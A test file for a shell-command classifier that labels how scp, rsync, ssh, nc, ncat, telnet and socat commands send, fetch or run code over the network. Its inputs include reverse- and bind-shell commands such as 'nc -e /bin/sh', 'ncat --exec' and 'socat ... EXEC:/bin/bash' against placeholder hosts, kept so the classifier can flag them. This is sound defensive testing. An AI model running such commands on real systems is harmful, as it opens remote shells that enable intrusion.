import { describe, expect, it } from "vitest";
import { effectLines } from "../../helpers/effect-lines.js";

// Programs that reach another machine by its host (src/core/commands/handlers-remote.ts): scp
// and rsync (local sources are sent or copied, a local destination is written), ssh, sftp and
// mosh (the destination and jump hosts receive what is sent), nc and telnet (host and port),
// socat (network addresses, and a program driven from the network). Each row is the whole reading.

describe("scp and rsync", () => {
  it.each([
    [
      "scp a.txt host.example:x",
      [
        "read a.txt: sends (sent)",
        "class sends: scp sends a file's content out",
        "send host.example: sends files to",
      ],
    ],
    [
      "scp -r src user@host.example:/srv",
      [
        "read src: sends (sent)",
        "class sends: scp sends a file's content out",
        "send user@host.example: sends files to",
      ],
    ],
    [
      "scp -P 2222 a.txt host.example:x",
      [
        "read a.txt: sends (sent)",
        "class sends: scp sends a file's content out",
        "send host.example:2222: sends files to",
      ],
    ],
    [
      "scp -i ~/.ssh/key a.txt host.example:x",
      [
        "read a.txt: sends (sent)",
        "class sends: scp sends a file's content out",
        "send host.example: sends files to",
      ],
    ],
    // a remote source is fetched: only the local destination is written
    ["scp host.example:remote.txt .", ["write .: copies into (place)", "class fetch: scp copies files"]],
    // remote to remote: nothing local is read
    [
      "scp host.example:remote.txt other.example:",
      ["send other.example: sends files to", "class sends: scp sends files to another machine"],
    ],
    [
      "scp a.txt b.txt",
      ["read a.txt: copies (place)", "write b.txt: copies into (place)", "class none: scp copies files"],
    ],
    // a drive, not a host
    [
      "scp a.txt C:/x",
      ["read a.txt: copies (place)", "write C:/x: copies into (place)", "class none: scp copies files"],
    ],
    // a path with a colon, not a host
    [
      "scp a.txt ./a:b",
      ["read a.txt: copies (place)", "write ./a:b: copies into (place)", "class none: scp copies files"],
    ],
    [
      "scp -o ProxyCommand=x a.txt h:",
      ["class unknown: scp -o ProxyCommand=x: runs a program", "legacy scp -o ProxyCommand=x a.txt h:"],
    ],
    [
      "scp -o 'ProxyCommand nc h 22' a.txt h:",
      [
        "class unknown: scp -o ProxyCommand nc h 22: runs a program",
        "legacy scp -o 'ProxyCommand nc h 22' a.txt h:",
      ],
    ],
    [
      "scp -o LocalCommand=x a.txt h:",
      ["class unknown: scp -o LocalCommand=x: runs a program", "legacy scp -o LocalCommand=x a.txt h:"],
    ],
    // -o with nothing after it is taken for the worst
    ["scp -o", ["class unknown: scp -o : runs a program", "legacy scp -o"]],
    ["scp", ["class unknown: scp without operands", "legacy scp"]],
    [
      "scp $SRC h:x",
      ["read $SRC: sends (sent)", "class sends: scp sends a file's content out", "send h: sends files to"],
    ],
    // a destination known only at run time is no host
    [
      "scp a.txt $DEST",
      ["read a.txt: copies (place)", "write $DEST: copies into (place)", "class none: scp copies files"],
    ],
    [
      "scp -$O a.txt h:x",
      ["class unknown: scp: an option known only at run time", "legacy scp -$O a.txt h:x"],
    ],
    [
      "rsync -e 'ssh -p 22' a h:x",
      ["class unknown: rsync -e: runs a program", "legacy rsync -e 'ssh -p 22' a h:x"],
    ],
    ["rsync --rsh=ssh a h:x", ["class unknown: rsync --rsh: runs a program", "legacy rsync --rsh=ssh a h:x"]],
    [
      "rsync --rsync-path='sudo rsync' a h:x",
      ["class unknown: rsync --rsync-path: runs a program", "legacy rsync --rsync-path='sudo rsync' a h:x"],
    ],
    [
      "rsync -av --files-from list.txt . h:x",
      [
        "read list.txt: reads",
        "read .: sends (sent)",
        "class sends: rsync sends a file's content out",
        "send h: sends files to",
      ],
    ],
    [
      "rsync -av --files-from=list.txt . h:x",
      [
        "read list.txt: reads",
        "read .: sends (sent)",
        "class sends: rsync sends a file's content out",
        "send h: sends files to",
      ],
    ],
    [
      "rsync -av --exclude-from ex.txt src/ dst/",
      [
        "read ex.txt: reads",
        "read src/: copies (place)",
        "write dst/: copies into (place)",
        "class none: rsync copies files",
      ],
    ],
    [
      "rsync -av --include-from=in.txt src/ dst/",
      [
        "read in.txt: reads",
        "read src/: copies (place)",
        "write dst/: copies into (place)",
        "class none: rsync copies files",
      ],
    ],
    ["rsync --files-from", ["class unknown: rsync without operands", "legacy rsync --files-from"]],
    [
      "rsync --log-file rs.log src/ dst/",
      [
        "write rs.log: writes",
        "read src/: copies (place)",
        "write dst/: copies into (place)",
        "class none: rsync copies files",
      ],
    ],
    [
      "rsync --log-file=rs.log src/ dst/",
      [
        "write rs.log: writes",
        "read src/: copies (place)",
        "write dst/: copies into (place)",
        "class none: rsync copies files",
      ],
    ],
    ["rsync --log-file", ["class unknown: rsync without operands", "legacy rsync --log-file"]],
    // the daemon's port
    [
      "rsync --port=8873 a h::mod",
      [
        "read a: sends (sent)",
        "class sends: rsync sends a file's content out",
        "send h:8873: sends files to",
      ],
    ],
    // rsync -P is --partial --progress, not a port
    [
      "rsync -P a h:x",
      ["read a: sends (sent)", "class sends: rsync sends a file's content out", "send h: sends files to"],
    ],
    [
      "rsync -avz --exclude .git src/ dst/",
      ["read src/: copies (place)", "write dst/: copies into (place)", "class none: rsync copies files"],
    ],
    [
      "rsync --exclude=.git src/ dst/",
      ["read src/: copies (place)", "write dst/: copies into (place)", "class none: rsync copies files"],
    ],
    ["rsync -a h:src/ dst/", ["write dst/: copies into (place)", "class fetch: rsync copies files"]],
    [
      "rsync --timeout 10 a h:x",
      ["read a: sends (sent)", "class sends: rsync sends a file's content out", "send h: sends files to"],
    ],
    // a URL is the destination as written
    [
      "rsync -a src/ rsync://h.example/mod/",
      [
        "read src/: sends (sent)",
        "class sends: rsync sends a file's content out",
        "send rsync://h.example/mod/: sends files to",
      ],
    ],
    // a destination word known only at run time is judged as a place the command does not show
    [
      "scp a.txt h.example:$DIR",
      ["read a.txt: sends (sent)", "class sends: scp sends a file's content out", "send : sends files to"],
    ],
  ] as [string, string[]][])("%s", (command, lines) => {
    expect(effectLines(command)).toEqual(lines);
  });
});

describe("ssh, sftp and mosh", () => {
  it.each([
    ["ssh h.example", ["send h.example: sends data to", "class sends: ssh talks to another machine"]],
    [
      "ssh -p 2222 me@10.0.0.5 uptime",
      ["send 10.0.0.5:2222: sends data to", "class sends: ssh talks to another machine"],
    ],
    [
      "ssh -p2222 me@h.example",
      ["send h.example:2222: sends data to", "class sends: ssh talks to another machine"],
    ],
    // a cluster ending in an option whose value is the next word
    [
      "ssh -vp 2222 h.example",
      ["send h.example:2222: sends data to", "class sends: ssh talks to another machine"],
    ],
    ["ssh -v -4 h.example", ["send h.example: sends data to", "class sends: ssh talks to another machine"]],
    ["ssh -- h.example ls", ["send h.example: sends data to", "class sends: ssh talks to another machine"]],
    [
      "ssh -i ~/.ssh/id_ed25519 h.example",
      ["send h.example: sends data to", "class sends: ssh talks to another machine"],
    ],
    [
      "ssh -$O h.example",
      ["class unknown: ssh: an option known only at run time", "legacy ssh -$O h.example"],
    ],
    ['ssh "$HOST" uptime', ["send : sends data to", "class sends: ssh talks to another machine"]],
    [
      'ssh -p "$P" h.example',
      ["class unknown: ssh -p: a value known only at run time", 'legacy ssh -p "$P" h.example'],
    ],
    // ssh has no long options: one is unknown
    [
      "ssh --version",
      ["class unknown: ssh --version: an option the catalogue does not know", "legacy ssh --version"],
    ],
    [
      "ssh -o ProxyCommand='sh -c x' h.example",
      [
        "class unknown: ssh -o ProxyCommand=sh -c x: runs a program",
        "legacy ssh -o ProxyCommand='sh -c x' h.example",
      ],
    ],
    [
      "ssh -oProxyCommand=x h.example",
      ["class unknown: ssh -o ProxyCommand=x: runs a program", "legacy ssh -oProxyCommand=x h.example"],
    ],
    [
      "ssh -o 'LocalCommand x' h.example",
      ["class unknown: ssh -o LocalCommand x: runs a program", "legacy ssh -o 'LocalCommand x' h.example"],
    ],
    [
      "ssh -o PermitLocalCommand=yes h.example",
      [
        "class unknown: ssh -o PermitLocalCommand=yes: runs a program",
        "legacy ssh -o PermitLocalCommand=yes h.example",
      ],
    ],
    [
      "ssh -o KnownHostsCommand=x h.example",
      [
        "class unknown: ssh -o KnownHostsCommand=x: runs a program",
        "legacy ssh -o KnownHostsCommand=x h.example",
      ],
    ],
    [
      "ssh -o Port=2200 h.example",
      ["send h.example:2200: sends data to", "class sends: ssh talks to another machine"],
    ],
    [
      "ssh -o 'Port 2200' h.example",
      ["send h.example:2200: sends data to", "class sends: ssh talks to another machine"],
    ],
    [
      "ssh -o ServerAliveInterval=30 h.example",
      ["send h.example: sends data to", "class sends: ssh talks to another machine"],
    ],
    [
      "ssh -F ./cfg h.example",
      [
        "read ./cfg: reads",
        "class unknown: ssh -F: settings read from a file",
        "legacy ssh -F ./cfg h.example",
      ],
    ],
    [
      "ssh -J a.example,b.example t.example",
      [
        "send a.example: connects through",
        "send b.example: connects through",
        "send t.example: sends data to",
        "class sends: ssh talks to another machine",
      ],
    ],
    [
      "ssh -Ja.example t.example",
      [
        "send a.example: connects through",
        "send t.example: sends data to",
        "class sends: ssh talks to another machine",
      ],
    ],
    // no destination
    ["ssh -V", ["class reads: ssh prints about itself"]],
    // an IPv6 address with a port is bracketed
    ["ssh -p 22 ::1", ["send [::1]:22: sends data to", "class sends: ssh talks to another machine"]],
    ["ssh -p 22 me@::1", ["send [::1]:22: sends data to", "class sends: ssh talks to another machine"]],
    ["ssh -p 22 me@[::1]", ["send [::1]:22: sends data to", "class sends: ssh talks to another machine"]],
    [
      "sftp -P 2222 h.example",
      ["send h.example:2222: sends data to", "class sends: sftp talks to another machine"],
    ],
    // sftp's host:path names the host
    [
      "sftp me@h.example:/srv/x",
      ["send me@h.example: sends data to", "class sends: sftp talks to another machine"],
    ],
    // sftp -b reads commands from a file; ssh -b is the bind address
    [
      "sftp -b batch.txt h.example",
      [
        "read batch.txt: reads",
        "send h.example: sends data to",
        "class sends: sftp talks to another machine",
      ],
    ],
    [
      "sftp -S /bin/x h.example",
      ["class unknown: sftp -S: runs a program", "legacy sftp -S /bin/x h.example"],
    ],
    [
      "ssh -b 1.2.3.4 h.example",
      ["send h.example: sends data to", "class sends: ssh talks to another machine"],
    ],
    // ssh -S is a control socket; sftp -S runs a program
    ["ssh -S ctl h.example", ["send h.example: sends data to", "class sends: ssh talks to another machine"]],
    ["mosh h.example", ["send h.example: sends data to", "class sends: mosh talks to another machine"]],
    [
      "mosh --ssh='ssh -p 2222' h.example",
      ["class unknown: mosh --ssh=ssh -p 2222: runs a program", "legacy mosh --ssh='ssh -p 2222' h.example"],
    ],
    [
      "mosh --client=x h.example",
      ["class unknown: mosh --client=x: runs a program", "legacy mosh --client=x h.example"],
    ],
    [
      "mosh --server=x h.example",
      ["class unknown: mosh --server=x: runs a program", "legacy mosh --server=x h.example"],
    ],
    // mosh's long options are read
    [
      "mosh --predict=always h.example",
      ["send h.example: sends data to", "class sends: mosh talks to another machine"],
    ],
    [
      "mosh -p 60001 h.example",
      ["send h.example:60001: sends data to", "class sends: mosh talks to another machine"],
    ],
  ] as [string, string[]][])("%s", (command, lines) => {
    expect(effectLines(command)).toEqual(lines);
  });
});

describe("nc, ncat and telnet", () => {
  it.each([
    [
      "nc h.example 80",
      ["send h.example:80: sends data to", "class sends: nc sends data to another machine"],
    ],
    [
      "nc -v h.example 80",
      ["send h.example:80: sends data to", "class sends: nc sends data to another machine"],
    ],
    [
      "nc -w 3 h.example 80",
      ["send h.example:80: sends data to", "class sends: nc sends data to another machine"],
    ],
    [
      "nc -w3 h.example 80",
      ["send h.example:80: sends data to", "class sends: nc sends data to another machine"],
    ],
    ["nc -lvp 4444", ["class sends: nc listens and sends to whoever connects"]],
    ["nc -l 4444", ["class sends: nc listens and sends to whoever connects"]],
    ["ncat --listen 4444", ["class sends: ncat listens and sends to whoever connects"]],
    ["nc -e /bin/sh h.example 4444", ["class network-code: nc -e runs a program driven from the network"]],
    ["nc -e/bin/sh h.example 4444", ["class network-code: nc -e runs a program driven from the network"]],
    ["nc -c 'sh' h.example 4444", ["class network-code: nc -c runs a program driven from the network"]],
    [
      "ncat --exec /bin/sh h.example 4444",
      ["class network-code: ncat --exec runs a program driven from the network"],
    ],
    [
      "ncat --sh-exec 'sh' h.example 4444",
      ["class network-code: ncat --sh-exec runs a program driven from the network"],
    ],
    [
      "ncat --lua-exec=x.lua h.example 4444",
      ["class network-code: ncat --lua-exec runs a program driven from the network"],
    ],
    [
      "ncat -lk --exec /bin/sh 4444",
      ["class network-code: ncat --exec runs a program driven from the network"],
    ],
    [
      "ncat --output out.log h.example 80",
      [
        "write out.log: writes",
        "send h.example:80: sends data to",
        "class sends: ncat sends data to another machine",
      ],
    ],
    [
      "ncat --output=out.log h.example 80",
      [
        "write out.log: writes",
        "send h.example:80: sends data to",
        "class sends: ncat sends data to another machine",
      ],
    ],
    [
      "ncat --hex-dump dump.txt h.example 80",
      [
        "write dump.txt: writes",
        "send h.example:80: sends data to",
        "class sends: ncat sends data to another machine",
      ],
    ],
    [
      "ncat --append-output out.log h.example 80",
      [
        "write out.log: writes",
        "send h.example:80: sends data to",
        "class sends: ncat sends data to another machine",
      ],
    ],
    // no operands: nothing sent
    ["ncat --output", ["class reads: ncat prints about itself"]],
    [
      "ncat -o out.log h.example 80",
      [
        "write out.log: writes",
        "send h.example:80: sends data to",
        "class sends: ncat sends data to another machine",
      ],
    ],
    [
      "ncat -oout.log h.example 80",
      [
        "write out.log: writes",
        "send h.example:80: sends data to",
        "class sends: ncat sends data to another machine",
      ],
    ],
    [
      "ncat --wait 5 h.example 80",
      ["send h.example:80: sends data to", "class sends: ncat sends data to another machine"],
    ],
    [
      "ncat --ssl h.example 443",
      ["send h.example:443: sends data to", "class sends: ncat sends data to another machine"],
    ],
    [
      "ncat --udp --verbose h.example 53",
      ["send h.example:53: sends data to", "class sends: ncat sends data to another machine"],
    ],
    [
      "ncat --frobnicate h.example 80",
      [
        "class unknown: ncat --frobnicate: an option the catalogue does not know",
        "legacy ncat --frobnicate h.example 80",
      ],
    ],
    // a local socket is read, not a host
    [
      "nc -U /tmp/sock",
      ["read /tmp/sock: connects to the socket", "class sends: nc sends data to another machine"],
    ],
    ["nc -U", ["class reads: nc prints about itself"]],
    ["nc", ["class reads: nc prints about itself"]],
    ["nc h.example", ["send h.example: sends data to", "class sends: nc sends data to another machine"]],
    // a host known only at run time
    ['nc "$H" 80', ["send : sends data to", "class sends: nc sends data to another machine"]],
    // a port known only at run time: the host alone
    ['nc h.example "$P"', ["send h.example: sends data to", "class sends: nc sends data to another machine"]],
    ["nc ::1 8080", ["send [::1]:8080: sends data to", "class sends: nc sends data to another machine"]],
    [
      "nc -$X h.example 80",
      ["class unknown: nc: an option known only at run time", "legacy nc -$X h.example 80"],
    ],
    [
      "telnet h.example 23",
      ["send h.example:23: sends data to", "class sends: telnet sends data to another machine"],
    ],
    // a range is no port
    [
      "nc -zv h.example 1-100",
      ["send h.example: sends data to", "class sends: nc sends data to another machine"],
    ],
    [
      "ncat --wait=5 h.example 80",
      ["send h.example:80: sends data to", "class sends: ncat sends data to another machine"],
    ],
    ["ncat -o", ["class reads: ncat prints about itself"]],
  ] as [string, string[]][])("%s", (command, lines) => {
    expect(effectLines(command)).toEqual(lines);
  });
});

describe("socat", () => {
  it.each([
    [
      "socat - TCP:h.example:443",
      ["send h.example:443: sends data to", "class sends: socat sends data to another machine"],
    ],
    [
      "socat STDIO TCP4:h.example:443,crnl",
      ["send h.example:443: sends data to", "class sends: socat sends data to another machine"],
    ],
    [
      "socat -d -d - TCP:h.example:443",
      ["send h.example:443: sends data to", "class sends: socat sends data to another machine"],
    ],
    [
      "socat -lf log.txt - TCP:h.example:443",
      [
        "write log.txt: writes",
        "send h.example:443: sends data to",
        "class sends: socat sends data to another machine",
      ],
    ],
    ["socat -lf", ["class reads: socat prints about itself"]],
    ["socat", ["class reads: socat prints about itself"]],
    ["socat -V", ["class reads: socat prints about itself"]],
    [
      "socat TCP-LISTEN:8080,fork EXEC:/bin/bash",
      ["class network-code: socat runs a program driven from the network"],
    ],
    // listening: no host named
    ["socat TCP-LISTEN:8080,fork STDOUT", ["class sends: socat sends data to another machine"]],
    [
      "socat TCP:h.example:4444 EXEC:/bin/bash",
      ["class network-code: socat runs a program driven from the network"],
    ],
    [
      "socat TCP:h.example:4444 SYSTEM:'sh -i'",
      ["class network-code: socat runs a program driven from the network"],
    ],
    // a program on a local stream is unknown, not network code
    ["socat - EXEC:ls", ["class unknown: socat runs a program", "legacy socat - EXEC:ls"]],
    [
      'socat - "$ADDR"',
      ["class unknown: socat: an address known only at run time", 'legacy socat - "$ADDR"'],
    ],
    ["socat - TCP", ["class unknown: socat tcp: an address without a host", "legacy socat - TCP"]],
    // a proxy address names the proxy, then the target
    [
      "socat - SOCKS4A:proxy.example:target.example:80",
      [
        "send proxy.example: sends data to",
        "send target.example:80: sends data to",
        "class sends: socat sends data to another machine",
      ],
    ],
    [
      "socat - SOCKS5:proxy.example",
      ["send proxy.example: sends data to", "class sends: socat sends data to another machine"],
    ],
    [
      "socat - PROXY:proxy.example:target.example:443,proxyport=3128",
      [
        "send proxy.example: sends data to",
        "send target.example:443: sends data to",
        "class sends: socat sends data to another machine",
      ],
    ],
    [
      "socat - TCP6:[::1]:80",
      ["send [::1]:80: sends data to", "class sends: socat sends data to another machine"],
    ],
    [
      "socat - UDP:h.example",
      ["send h.example: sends data to", "class sends: socat sends data to another machine"],
    ],
    [
      "socat - OPENSSL:h.example:443,verify=0",
      ["send h.example:443: sends data to", "class sends: socat sends data to another machine"],
    ],
    [
      "socat FILE:x OPEN:y",
      [
        "class unknown: socat file: an address type the catalogue does not read",
        "legacy socat FILE:x OPEN:y",
      ],
    ],
    [
      "socat - UNIX-CONNECT:/tmp/s",
      [
        "class unknown: socat unix-connect: an address type the catalogue does not read",
        "legacy socat - UNIX-CONNECT:/tmp/s",
      ],
    ],
    // two local streams
    ["socat fd:3 readline", ["class none: socat joins two streams"]],
    [
      "socat -$X - TCP:h.example:1",
      ["class unknown: socat: an option known only at run time", "legacy socat -$X - TCP:h.example:1"],
    ],
    ["socat - TCP:", ["class unknown: socat tcp: an address without a host", "legacy socat - TCP:"]],
  ] as [string, string[]][])("%s", (command, lines) => {
    expect(effectLines(command)).toEqual(lines);
  });
});

describe("scp and rsync: which words are options, hosts and ports", () => {
  it.each([
    // the host is what comes before the first colon; a bracket later in the path is part of the path
    [
      "scp a.txt 'h:[x]:y'",
      ["read a.txt: sends (sent)", "class sends: scp sends a file's content out", "send h: sends files to"],
    ],
    // an IPv6 address in brackets, with no user, is the host as a whole
    [
      "scp a.txt '[::1]:x'",
      [
        "read a.txt: sends (sent)",
        "class sends: scp sends a file's content out",
        "send [::1]: sends files to",
      ],
    ],
    // rsync's -o keeps owners: a flag, so the next word is a file sent, not an ssh setting
    [
      "rsync -o ProxyCommand a h:",
      [
        "read ProxyCommand: sends (sent)",
        "class sends: rsync sends a file's content out",
        "read a: sends (sent)",
        "send h: sends files to",
      ],
    ],
    // only -o's value is read as an ssh setting: a file's name that looks like one is a file
    [
      "scp -r localcommand.txt h:",
      [
        "read localcommand.txt: sends (sent)",
        "class sends: scp sends a file's content out",
        "send h: sends files to",
      ],
    ],
    // a harmless -o setting changes nothing
    [
      "scp -o Port=22 a h:",
      ["read a: sends (sent)", "class sends: scp sends a file's content out", "send h: sends files to"],
    ],
    ["scp -S prog a h:", ["class unknown: scp -S: runs a program", "legacy scp -S prog a h:"]],
    // -F with no file names no file read
    ["scp -F", ["class unknown: scp -F: settings read from a file", "legacy scp -F"]],
    // only -P followed by nothing but digits is a port: other words leave the port given before
    [
      "scp -P 2222 -4-P5 a h:",
      ["read a: sends (sent)", "class sends: scp sends a file's content out", "send h:2222: sends files to"],
    ],
    [
      "scp -P 2222 -P22x a h:",
      ["read a: sends (sent)", "class sends: scp sends a file's content out", "send h:2222: sends files to"],
    ],
    // one remote source among local ones: the copy fetches
    [
      "scp h:a b.txt c/",
      ["read b.txt: copies (place)", "write c/: copies into (place)", "class fetch: scp copies files"],
    ],
  ] as [string, string[]][])("%s", (command, lines) => {
    expect(effectLines(command)).toEqual(lines);
  });
});

describe("ssh, sftp and mosh: options, settings and the destination", () => {
  it.each([
    // a lone dash is the destination, not an option
    ["ssh -", ["send -: sends data to", "class sends: ssh talks to another machine"]],
    // only a long option that begins with --ssh, --client or --server runs a program
    ["mosh --x--server h", ["send h: sends data to", "class sends: mosh talks to another machine"]],
    // a key file's name is not an ssh setting
    ["ssh -i proxycommand.key h", ["send h: sends data to", "class sends: ssh talks to another machine"]],
    // a setting runs a program only when it is one of those settings, not when its value names one
    ["ssh -o SendEnv=LocalCommand h", ["send h: sends data to", "class sends: ssh talks to another machine"]],
    // a port is set by -p or by the Port setting written as it is, nothing else
    ["ssh -i port=5 h", ["send h: sends data to", "class sends: ssh talks to another machine"]],
    ["ssh -o XPort=5 h", ["send h: sends data to", "class sends: ssh talks to another machine"]],
    ["ssh -o Portx=5 h", ["send h: sends data to", "class sends: ssh talks to another machine"]],
    ["ssh -o Port=x5 h", ["send h: sends data to", "class sends: ssh talks to another machine"]],
    ["ssh -l 1000 h", ["send h: sends data to", "class sends: ssh talks to another machine"]],
    // ssh's destination is a host as written; only sftp's can carry a path after a colon
    ["ssh u@h:x", ["send u@h:x: sends data to", "class sends: ssh talks to another machine"]],
    ["sftp h.example", ["send h.example: sends data to", "class sends: sftp talks to another machine"]],
    ["sftp h.example:a://b", ["send h.example: sends data to", "class sends: sftp talks to another machine"]],
    // a word is a URL only when it begins with a scheme: a letter, then letters, digits, + . -
    ["sftp 1h://x", ["send 1h: sends data to", "class sends: sftp talks to another machine"]],
    ["sftp 'u@[::]://x'", ["send u@[::]: sends data to", "class sends: sftp talks to another machine"]],
  ] as [string, string[]][])("%s", (command, lines) => {
    expect(effectLines(command)).toEqual(lines);
  });
});

describe("nc, ncat, telnet and socat: options and addresses", () => {
  it.each([
    // a long option is known only by its whole name
    [
      "nc --x--udp h 80",
      ["class unknown: nc --x--udp: an option the catalogue does not know", "legacy nc --x--udp h 80"],
    ],
    [
      "nc --udpx h 80",
      ["class unknown: nc --udpx: an option the catalogue does not know", "legacy nc --udpx h 80"],
    ],
    // -e takes the next word as the program, whatever it looks like
    ["nc -e --bogus h 80", ["class network-code: nc -e runs a program driven from the network"]],
    // with the program written in the same word, the next word is read on its own
    [
      "nc -esh --bogus h 80",
      ["class unknown: nc --bogus: an option the catalogue does not know", "legacy nc -esh --bogus h 80"],
    ],
    // a host known only at run time is judged as a place the command does not show
    ['nc "$H" 80', ["send : sends data to", "class sends: nc sends data to another machine"]],
    ['nc "$H"', ["send : sends data to", "class sends: nc sends data to another machine"]],
    // an address with nothing before its colon has no type
    [
      "socat - :x",
      ["class unknown: socat : an address type the catalogue does not read", "legacy socat - :x"],
    ],
  ] as [string, string[]][])("%s", (command, lines) => {
    expect(effectLines(command)).toEqual(lines);
  });
});
